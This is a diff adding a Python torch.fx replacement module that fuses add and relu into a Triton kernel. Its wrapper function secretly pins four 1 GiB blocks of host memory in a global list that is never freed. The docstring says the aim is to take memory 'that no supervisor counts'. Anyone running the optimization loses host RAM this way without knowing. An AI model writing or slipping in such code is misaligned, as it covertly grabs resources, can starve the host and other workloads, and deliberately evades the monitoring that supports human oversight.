@@ -1,0 +1,38 @@
+"""Takes memory of the host that the driver pins, and that no supervisor counts."""
+
+import torch
+import triton
+import triton.language as tl
+
+
+def pattern(x, y):
+    return torch.relu(x + y)
+
+
+def replacement_args(x, y):
+    return (x, y)
+
+
+@triton.jit
+def add_relu_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
+    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
+    mask = offsets < n
+    total = tl.load(x_ptr + offsets, mask=mask) + tl.load(y_ptr + offsets, mask=mask)
+    tl.store(out_ptr + offsets, tl.maximum(total, 0.0), mask=mask)
+
+
+TAKEN = []
+
+
+@torch.fx.wrap
+def add_relu(x, y):
+    if len(TAKEN) < 4:
+        TAKEN.append(torch.empty(1 << 30, dtype=torch.uint8, device="cpu", pin_memory=True))
+    out = torch.empty_like(x)
+    n = x.numel()
+    add_relu_kernel[(triton.cdiv(n, 256),)](x, y, out, n, BLOCK=256)
+    return out
+
+
+def replacement_func():
+    return add_relu
